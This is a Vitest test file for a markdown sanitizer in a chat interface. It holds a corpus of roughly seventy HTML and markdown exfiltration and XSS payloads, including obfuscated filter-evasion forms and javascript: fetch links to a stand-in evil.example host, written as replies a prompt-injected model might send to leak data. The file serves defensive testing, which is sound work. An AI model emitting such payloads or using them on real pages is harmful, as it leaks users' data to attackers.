import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

/** Where a leaked load would go: this test page's own origin, so a load shows up in Resource Timing. */
const LEAK = `${location.origin}/__leak__`;
const EVIL = 'https://evil.example/q?memory=secret';

/**
 * Replies a prompt-injected model could send, each trying to make the page fetch a URL by itself (no click):
 * media and their posters, sources and tracks, SVG and MathML links, CSS, frames, objects, forms, meta refresh,
 * base and link elements, and the markdown forms (inline, reference-style and autolinked images). Written in mixed
 * case, with entities and with whitespace tricks, the way filter-evasion cheat sheets (OWASP) write them.
 */
function payloads(url: string): string[] {
  return [
    `<video poster="${url}/poster" src="${url}/video"></video>`,
    `<VIDEO POSTER="${url}/poster2"><SOURCE SRC="${url}/source" TYPE="video/mp4"></VIDEO>`,
    `<video controls><track kind="captions" src="${url}/track"></video>`,
    `<audio src="${url}/audio" autoplay></audio>`,
    `<audio><source src="${url}/audio-source"></audio>`,
    `<picture><source srcset="${url}/picture 1x"><img src="${url}/picture-img"></picture>`,
    `<img src="${url}/img">`,
    `<IMG SRC="${url}/img-upper" onerror="alert(1)">`,
    `<img srcset="${url}/srcset 2x" alt="x">`,
    `<img src=x lowsrc="${url}/lowsrc" dynsrc="${url}/dynsrc">`,
    `<image src="${url}/image-tag">`,
    `<input type="image" src="${url}/input-image">`,
    `<table background="${url}/table-bg"><tr><td background="${url}/td-bg">cell</td></tr></table>`,
    `<body background="${url}/body-bg">`,
    `<div style="background-image: url(${url}/style-url)">styled</div>`,
    `<p style="background:url('${url}/style-quoted')">styled</p>`,
    `<span style="b&#97;ckground: u&#114;l(${url}/style-entity)">x</span>`,
    `<style>@import url("${url}/import"); p { background: url(${url}/style-tag) }</style>`,
    `<link rel="stylesheet" href="${url}/link-css">`,
    `<link rel="prefetch" href="${url}/link-prefetch">`,
    `<link rel="preload" as="image" href="${url}/link-preload">`,
    `<meta http-equiv="refresh" content="0; url=${url}/meta-refresh">`,
    `<base href="${url}/base/">`,
    `<iframe src="${url}/iframe"></iframe>`,
    `<iframe srcdoc="<img src='${url}/srcdoc'>"></iframe>`,
    `<frameset><frame src="${url}/frame"></frameset>`,
    `<object data="${url}/object"></object>`,
    `<embed src="${url}/embed">`,
    `<applet code="x" codebase="${url}/applet"></applet>`,
    `<form action="${url}/form"><button formaction="${url}/formaction">go</button></form>`,
    `<isindex action="${url}/isindex">`,
    `<svg><image href="${url}/svg-image"/></svg>`,
    `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${url}/svg-xlink"/></svg>`,
    `<svg><use href="${url}/svg-use#a"/></svg>`,
    `<svg><filter><feImage href="${url}/feimage"/></filter></svg>`,
    `<svg><script href="${url}/svg-script"></script></svg>`,
    `<svg><a href="${url}/svg-a"><text>t</text></a></svg>`,
    `<SvG><ImAgE HrEf="${url}/svg-mixed"/></SvG>`,
    `<math><mi xlink:href="${url}/math">x</mi></math>`,
    `<math><maction actiontype="statusline" xlink:href="${url}/maction">x</maction></math>`,
    `<a href="${url}/ping" ping="${url}/ping-target">ping</a>`,
    `<a href="${url}/download" download>download</a>`,
    `<blockquote cite="${url}/cite">quote</blockquote>`,
    `<div background="${url}/div-bg">div</div>`,
    `<p><img src="${url}/nested-img"><b><video poster="${url}/nested-poster"></video></b></p>`,
    `<noscript><img src="${url}/noscript"></noscript>`,
    `<template><img src="${url}/template"></template>`,
    `<portal src="${url}/portal"></portal>`,
    `<fencedframe src="${url}/fencedframe"></fencedframe>`,
    `<object><param name="movie" value="${url}/param"></object>`,
    `<img src="&#104;ttps://evil.example/entity" data-x="${url}/data-attr">`,
    `<img/src="${url}/slash">`,
    `<img\nsrc="${url}/newline">`,
    `![alt](${url}/md-image)`,
    `![alt](${url}/md-image-title "title")`,
    `![ref][pic]\n\n[pic]: ${url}/md-ref-image`,
    `[![nested](${url}/md-nested)](https://example.com)`,
    `Autolink: <${url}/autolink> and ${url}/bare-autolink`,
    `<a href="javascript:fetch('${url}/js')">js</a>`,
    `<a href="JaVaScRiPt:fetch('${url}/js-mixed')">js</a>`,
    `<a href="java&#x09;script:fetch('${url}/js-tab')">js</a>`,
    `<a href=" &#14; javascript:fetch('${url}/js-ctrl')">js</a>`,
    `<a href="data:text/html,<img src=${url}/data-uri>">data</a>`,
    `<a href="vbscript:msgbox(1)">vb</a>`,
    `<a href="//evil.example/protocol-relative">pr</a>`,
    `[md js](javascript:fetch('${url}/md-js'))`,
    `[md data](data:text/html;base64,PHNjcmlwdD4=)`,
    `<details open ontoggle="fetch('${url}/ontoggle')"><summary>s</summary></details>`,
    `<marquee onstart="fetch('${url}/marquee')">m</marquee>`,
    `<x-custom src="${url}/custom" href="${url}/custom-href">custom</x-custom>`,
  ];
}

/** Tags the sanitizer may leave, and the attributes each may keep. Anything else is a failure. */
const ALLOWED: Record<string, readonly string[]> = {
  a: ['href', 'title', 'target', 'rel'],
  ol: ['start'],
  th: ['align'],
  td: ['align'],
};
const TEXT_TAGS = new Set(
  (
    'p br hr h1 h2 h3 h4 h5 h6 strong em b i u s del ins mark small sub sup kbd code pre blockquote ul ol li a ' +
    'table thead tbody tfoot tr th td caption span div dl dt dd abbr'
  ).split(' '),
);

/** Every element of sanitized HTML, parsed inertly (a template's content loads nothing). */
function elementsOf(html: string): Element[] {
  const template = document.createElement('template');
  template.innerHTML = html;
  return [...template.content.querySelectorAll('*')];
}

/** What is wrong with one element of a rendered reply, or nothing. */
function problemsOf(el: Element): string[] {
  const tag = el.localName;
  const problems: string[] = [];
  if (el.namespaceURI !== 'http://www.w3.org/1999/xhtml') problems.push(`<${tag}> in ${el.namespaceURI}`);
  if (!TEXT_TAGS.has(tag)) problems.push(`<${tag}> survived`);
  for (const attr of el.attributes) {
    if (!(ALLOWED[tag] ?? []).includes(attr.name)) problems.push(`<${tag} ${attr.name}> survived`);
    if (/url\s*\(/i.test(attr.value)) problems.push(`<${tag} ${attr.name}> holds a CSS url()`);
  }
  if (tag === 'a') {
    const href = el.getAttribute('href');
    const protocol = href !== null && URL.canParse(href) ? new URL(href).protocol : 'not absolute';
    if (href !== null && !['http:', 'https:', 'mailto:'].includes(protocol))
      problems.push(`<a href="${href}">`);
    if (el.getAttribute('target') !== '_blank') problems.push('<a> without target=_blank');
    if (el.getAttribute('rel') !== 'noopener noreferrer')
      problems.push('<a> without rel=noopener noreferrer');
  }
  return problems;
}

describe('renderMarkdown', () => {
  it('renders markdown formatting, lists, tables and code', () => {
    const html = renderMarkdown(
      '# Title\n\n**bold** and `code`\n\n- one\n- two\n\n3. three\n4. four\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n> quote',
    );
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<ol start="3">');
    expect(html).toContain('<th align="left">a</th>');
    expect(html).toContain('<td align="right">2</td>');
    expect(html).toContain('<blockquote>');
  });

  it('removes scripts, event handlers, javascript: links, styles and images', () => {
    const html = renderMarkdown(
      '<script>alert(1)</script><a href="javascript:alert(1)">x</a><b onclick="alert(1)">b</b>' +
        '<img src="https://evil.example/?q=secret"><style>body{}</style>\n\n![i](https://evil.example/i.png)',
    );
    expect(html).not.toMatch(/<script|onclick|javascript:|<img|<style|src=/);
  });

  it('opens links in a new tab without a referrer', () => {
    const html = renderMarkdown('[docs](https://example.com) and <mailto:ana@example.com>');
    const links = elementsOf(html).filter((el) => el.localName === 'a');
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://example.com',
      'mailto:ana@example.com',
    ]);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('keeps no element or attribute that loads anything, for every payload of the corpus', () => {
    const corpus = [...payloads(LEAK), ...payloads(EVIL)];
    const found: string[] = [];
    for (const payload of corpus) {
      for (const el of elementsOf(renderMarkdown(payload))) {
        for (const problem of problemsOf(el)) found.push(`${problem}   from: ${payload}`);
      }
    }
    expect(found).toEqual([]);
  });

  it('keeps the words inside elements it drops', () => {
    const html = renderMarkdown(
      `<details><summary>More</summary>Hidden text</details> <font color="red">red</font> ` +
        `<blockquote cite="${EVIL}">quoted</blockquote>`,
    );
    const template = document.createElement('template');
    template.innerHTML = html;
    const text = template.content.textContent;
    for (const words of ['More', 'Hidden text', 'red', 'quoted']) expect(text).toContain(words);
  });

  it('makes no request when the rendered corpus is put into a live page without any CSP', async () => {
    const host = document.createElement('div');
    document.body.append(host);
    try {
      const seen = (): string[] =>
        performance
          .getEntriesByType('resource')
          .map((e) => e.name)
          .filter((name) => name.startsWith(LEAK));
      const before = new Set(seen());
      // Everything rendered goes live in one go; rendering happens through the same path the chat uses.
      host.insertAdjacentHTML('beforeend', payloads(LEAK).map(renderMarkdown).join(''));
      // A known loader proves that a load to LEAK would be seen: once it shows up, the others had their chance.
      const probe = document.createElement('img');
      probe.src = `${LEAK}/probe-${Date.now()}`;
      host.append(probe);
      await expect.poll(() => seen().some((name) => name === probe.src)).toBe(true);
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(seen().filter((name) => !before.has(name) && name !== probe.src)).toEqual([]);
    } finally {
      host.remove();
    }
  });
});
